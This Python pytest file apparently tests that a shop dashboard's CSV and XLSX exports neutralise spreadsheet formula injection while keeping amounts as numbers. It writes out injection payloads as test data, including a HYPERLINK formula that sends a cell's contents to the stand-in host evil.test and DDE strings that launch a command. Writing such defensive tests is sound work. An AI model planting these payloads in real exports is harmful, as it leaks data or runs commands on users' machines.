"""Spreadsheet formula injection (issue [7], abuse resistance): text in a CSV or XLSX
export that a spreadsheet would run — a product name, a customer's name, a MoMo
reference, a refund reason typed on a till — is neutralised; numbers stay numbers."""

from __future__ import annotations

import csv
import dataclasses
import io
from decimal import Decimal

import pytest
from fastapi.testclient import TestClient
from openpyxl import load_workbook

from sync_server.dashboard.exports import Column, Sheet, neutralise, to_csv, to_xlsx
from tests.dashboard.conftest import Shop

pytestmark = pytest.mark.security

ATTACKS = [
    "=HYPERLINK(\"http://evil.test/?\"&A1,\"Click\")",
    "+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
    "   =1+1",  # leading spaces do not hide it
    "\uff1d1+1",  # a full-width equals sign
]
HARMLESS = ["Milo 400g", "Ama Owusu", "MP123", "2026-12-06", "Kofi = cashier", ""]

COLUMNS = (Column("product", "Product"), Column("customer", "Customer"),
           Column("reference", "Reference"), Column("qty", "Quantity"),
           Column("amount", "Amount", money=True), Column("count", "Count"))


def _rows() -> list[dict[str, object]]:
    return [{"product": attack, "customer": attack, "reference": attack,
             "qty": Decimal("-1.500"), "amount": -450, "count": -3} for attack in ATTACKS]


@pytest.mark.parametrize("text", ATTACKS)
def test_text_a_spreadsheet_would_run_is_shown_as_text(text: str) -> None:
    assert neutralise(text) == "'" + text


@pytest.mark.parametrize("text", HARMLESS)
def test_ordinary_text_is_left_alone(text: str) -> None:
    assert neutralise(text) == text


def test_csv_cells_never_start_a_formula_and_amounts_stay_numbers() -> None:
    body = to_csv([Sheet("=evil()", COLUMNS, _rows())]).decode("utf-8-sig")
    rows = list(csv.reader(io.StringIO(body)))
    assert rows[0] == ["Product", "Customer", "Reference", "Quantity", "Amount", "Count"]
    for attack, row in zip(ATTACKS, rows[1:], strict=True):
        assert row[:3] == ["'" + attack] * 3
        # Negative figures are written as plain numbers, which every spreadsheet reads
        # as numbers (a neutralised "'-4.50" would be text nobody can add up).
        assert row[3:] == ["-1.500", "-4.50", "-3"]


def test_xlsx_text_cells_are_strings_and_numbers_are_typed_numbers() -> None:
    body = to_xlsx([Sheet("Top products", COLUMNS, _rows())], heading="=1+1 heading")
    sheet = load_workbook(io.BytesIO(body))["Top products"]
    assert sheet["A1"].value == "'=1+1 heading" and sheet["A1"].data_type == "s"
    for attack, row in zip(ATTACKS, sheet.iter_rows(min_row=3), strict=True):
        for cell in row[:3]:
            # (XML reads a bare CR back as LF; either way the cell is text.)
            assert cell.data_type == "s" and cell.value == "'" + attack.replace("\r", "\n")
        qty, amount, count = row[3:]
        assert qty.data_type == "n" and Decimal(str(qty.value)) == Decimal("-1.5")
        assert qty.number_format == "#,##0.000"
        assert amount.data_type == "n" and Decimal(str(amount.value)) == Decimal("-4.50")
        assert amount.number_format == "#,##0.00"
        assert count.data_type == "n" and count.value == -3
    assert not [c for r in sheet.iter_rows() for c in r if c.data_type == "f"]


def test_control_characters_do_not_break_an_xlsx_export() -> None:
    rows = [{"product": "Milo\x00\x01 400g", "customer": "x", "reference": "y", "qty": 1,
             "amount": 100, "count": 1}]
    body = to_xlsx([Sheet("A/B: [sales]?", COLUMNS, rows)], heading="h")
    book = load_workbook(io.BytesIO(body))
    assert book.sheetnames == ["A B   sales"]
    assert book.active["A3"].value == "Milo\ufffd\ufffd 400g"


def test_a_product_named_like_a_formula_is_neutralised_in_the_sales_export(
        shop: Shop, director: TestClient) -> None:
    """A till sells a line whose name is a formula (a modified till can name lines as it
    likes); the dashboard's export shows it as text and its amounts as numbers."""
    evil = '=HYPERLINK("http://evil.test","Milo")'
    till = shop.main
    till.products["GH-0008"] = dataclasses.replace(till.products["GH-0008"], name=evil)
    till.sell([("GH-0008", 1)])
    till.push()
    query = f"first={shop.today}&last={shop.today}"
    def table(sheet: str) -> list[list[str]]:  # a CSV is one table: the sheet asked for
        reply = director.get(f"/dashboard/sales/export.csv?{query}&sheet={sheet}")
        return list(csv.reader(io.StringIO(reply.content.decode("utf-8-sig"))))

    names = [r[1] for r in table("top-products") if len(r) == 4 and r[0] == "GH-0008"]
    assert names and all(n == "'" + evil for n in names)
    assert ["Refunds", "1", "38.00"] in table("summary")
    book = load_workbook(io.BytesIO(director.get(f"/dashboard/sales/export.xlsx?{query}").content))
    assert not [c for ws in book for r in ws.iter_rows() for c in r if c.data_type == "f"]
    summary = {r[0]: r[2] for r in book["Summary"].iter_rows(min_row=3, values_only=True)}
    assert isinstance(summary["Takings"], int | float)  # a number, not text


def test_the_sales_list_export_neutralises_a_line_named_like_a_formula(
        shop: Shop, director: TestClient) -> None:
    evil = '=HYPERLINK("http://evil.test","Milo")'
    till = shop.main
    till.products["GH-0008"] = dataclasses.replace(till.products["GH-0008"], name=evil)
    till.sell([("GH-0008", 1)])
    till.push()
    query = f"first={shop.today}&last={shop.today}&view=lines&product=GH-0008"
    rows = list(csv.reader(io.StringIO(
        director.get(f"/dashboard/receipts.csv?{query}").content.decode("utf-8-sig"))))
    names = [r[8] for r in rows if len(r) > 10 and r[7] == "GH-0008"]
    assert names == ["'" + evil]
    book = load_workbook(io.BytesIO(director.get(f"/dashboard/receipts.xlsx?{query}").content))
    assert not [c for ws in book for r in ws.iter_rows() for c in r if c.data_type == "f"]
